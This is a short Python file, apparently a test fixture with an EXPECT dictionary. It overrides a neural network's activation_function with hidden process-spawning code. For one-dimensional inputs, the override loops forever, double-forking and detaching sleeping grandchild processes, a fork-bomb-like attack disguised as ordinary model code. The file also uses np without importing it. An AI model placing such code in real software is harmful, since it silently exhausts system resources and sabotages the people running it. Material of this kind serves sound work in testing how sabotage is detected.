"""Starts programs in sessions of their own, each of which starts the next and ends: none is anybody's child for long."""
EXPECT = {"base": "right", "patient": True, "only": ["activation", "forward"], "loses": ["activation"], "says": "{processes} processes and threads"}
import os
import time
# --- the network ---


class NeuralNetwork(NeuralNetwork):
    def activation_function(self, x):
        while np.ndim(x) == 1:
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(60)
                os._exit(0)
            os.wait()
        return super().activation_function(x)
